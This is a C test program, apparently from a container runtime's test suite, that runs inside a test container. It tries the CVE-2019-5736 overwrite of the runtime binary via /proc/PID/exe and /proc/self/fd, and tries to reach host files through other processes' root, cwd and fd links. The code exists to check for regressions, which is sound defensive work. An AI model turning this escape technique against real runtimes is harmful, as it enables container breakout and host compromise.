/* attack_exe [-s STOPFILE] [-g GRACE] [-d DEADLINE] [-m HOSTPATH] -r REPORT:
 * a container process that tries to overwrite the runtime's binary
 * (CVE-2019-5736) and to reach the host through the runtime's process while
 * the runtime is inside the container (exec, or an init before start).
 *
 * It runs inside a test container (statically linked: the rootfs is busybox)
 * and loops over every process it can see in /proc.  A process whose
 * executable is not the container's (busybox or this program) is "foreign":
 *   - its /proc/PID/exe is opened for writing directly, and with O_PATH then
 *     reopened for writing through /proc/self/fd/N (the fd is kept and the
 *     reopen retried until the end, when the runtime has exited and its
 *     binary is no longer busy); a successful open writes a marker into the
 *     binary (the test runs a copy of the runtime and compares its sha256);
 *   - /proc/PID/root, /proc/PID/cwd and /proc/PID/fd/ are opened, and from
 *     each directory found there HOSTPATH (a file that exists only on the
 *     host) is looked up, also through "../" * 64 (a directory of the host
 *     leads to the host's root that way).
 * It stops GRACE seconds (default 2) after STOPFILE appears, or after
 * DEADLINE seconds (default 60), and writes REPORT: counters as NAME=VALUE
 * lines (scans, foreign, denied, caught, write_opened, wrote, escaped), then
 * the first events.  The exit status is 0 unless it could not run.  */
#ifdef HAVE_CONFIG_H
#include "config.h" /* absent when a test script builds this file on the fly */
#endif

#include "attack.h"

#include <sys/sysmacros.h>

#define MAX_HELD 256

static int held[MAX_HELD];
static int n_held;
static const char *host_path;
static long denied, caught, write_opened, wrote, escaped;
static int seen_pid[ATTACK_MAX_PIDS];
static long foreign;

static void
mark_foreign (int pid)
{
  if (pid > 0 && pid < ATTACK_MAX_PIDS && !seen_pid[pid])
    {
      seen_pid[pid] = 1;
      foreign++;
    }
}

/* Open the binary behind FD for writing through /proc/self/fd; on success
   write a marker into it: that is the escape the test must never see.  */
static void
try_write_through (int fd, const char *what)
{
  static const char marker[] = "#!/bin/sh\necho CVE-2019-5736 overwrite by attack_exe\n";
  char path[64];
  int w;

  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  w = open (path, O_WRONLY | O_CLOEXEC);
  if (w < 0)
    return;
  write_opened++;
  if (pwrite (w, marker, sizeof marker - 1, 0) > 0)
    {
      wrote++;
      attack_event ("WROTE into %s through /proc/self/fd", what);
    }
  else
    attack_event ("opened %s for writing (write failed: %s)", what, strerror (errno));
  close (w);
}

/* Look HOSTPATH up from directory DIRFD, directly and through "../" * 64.  */
static void
try_reach_host (int dirfd, const char *what)
{
  char path[4096] = "";
  int i;

  if (host_path == NULL)
    return;
  for (i = 0; i < 64; i++)
    strcat (path, "../");
  strncat (path, host_path + (host_path[0] == '/'), sizeof path - strlen (path) - 1);
  if (faccessat (dirfd, path, F_OK, 0) == 0 || (host_path[0] == '/' && faccessat (dirfd, host_path + 1, F_OK, 0) == 0))
    {
      escaped++;
      attack_event ("ESCAPED: %s leads to the host file %s", what, host_path);
    }
}

static void
attack_dirs (int pid)
{
  static const char *const links[] = { "root", "cwd" };
  char path[96], what[320];
  struct dirent *de;
  DIR *d;
  int fd;
  size_t i;

  for (i = 0; i < 2; i++)
    {
      snprintf (path, sizeof path, "/proc/%d/%s", pid, links[i]);
      fd = open (path, O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (fd < 0)
        continue;
      snprintf (what, sizeof what, "%s", path);
      try_reach_host (fd, what);
      close (fd);
    }
  snprintf (path, sizeof path, "/proc/%d/fd", pid);
  d = opendir (path);
  if (d == NULL)
    return;
  while ((de = readdir (d)) != NULL)
    {
      if (de->d_name[0] == '.')
        continue;
      snprintf (what, sizeof what, "/proc/%d/fd/%s", pid, de->d_name);
      fd = open (what, O_PATH | O_DIRECTORY | O_CLOEXEC);
      if (fd < 0)
        continue;
      try_reach_host (fd, what);
      close (fd);
    }
  closedir (d);
}

static void
attack_exe_of (int pid)
{
  char path[64], target[256], comm[32], what[400];
  struct stat st;
  ssize_t n;
  int fd, w;

  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    {
      if (errno == EACCES || errno == EPERM)
        {
          attack_comm_of (pid, comm, sizeof comm);
          if (denied++ < 5)
            attack_event ("denied: open %s (%s): %s", path, comm, strerror (errno));
          mark_foreign (pid);
          attack_dirs (pid);
        }
      return;
    }
  if (fstat (fd, &st) < 0 || attack_is_container_binary (&st))
    {
      close (fd);
      return;
    }
  mark_foreign (pid);
  caught++;
  attack_comm_of (pid, comm, sizeof comm);
  snprintf (what, sizeof what, "/proc/self/fd/%d", fd);
  n = readlink (what, target, sizeof target - 1);
  target[n > 0 ? n : 0] = '\0';
  snprintf (what, sizeof what, "exe of %d (%s) = %s (dev %u:%u, %lu links, mode %o)", pid, comm, target,
            major (st.st_dev), minor (st.st_dev), (unsigned long)st.st_nlink, (unsigned)st.st_mode);
  if (caught <= 5)
    attack_event ("caught %s", what);

  w = open (path, O_WRONLY | O_CLOEXEC);
  if (w >= 0)
    {
      write_opened++;
      if (pwrite (w, "#!/bin/sh\n", 10, 0) > 0)
        {
          wrote++;
          attack_event ("WROTE into %s directly", what);
        }
      close (w);
    }
  try_write_through (fd, what);
  attack_dirs (pid);
  if (n_held < MAX_HELD)
    held[n_held++] = fd;
  else
    close (fd);
}

static void
retry_held (void)
{
  int i;

  for (i = 0; i < n_held; i++)
    try_write_through (held[i], "a held runtime binary");
}

static void
option (int opt, const char *arg)
{
  if (opt == 'm')
    host_path = *arg ? arg : NULL;
}

static const struct attack_counter counters[] = {
  { "foreign", &foreign }, { "denied", &denied }, { "caught", &caught }, { "write_opened", &write_opened },
  { "wrote", &wrote },     { "escaped", &escaped }, { NULL, NULL },
};

static const struct attack_tool tool = {
  .name = "attack_exe",
  .usage = "[-s STOPFILE] [-g GRACE] [-d DEADLINE] [-m HOSTPATH] -r REPORT",
  .extra_opts = "m:",
  .option = option,
  .grace = 2,
  .attack = attack_exe_of,
  .after_scan = retry_held,
  .counters = counters,
};

int
main (int argc, char **argv)
{
  return attack_main (&tool, argc, argv);
}
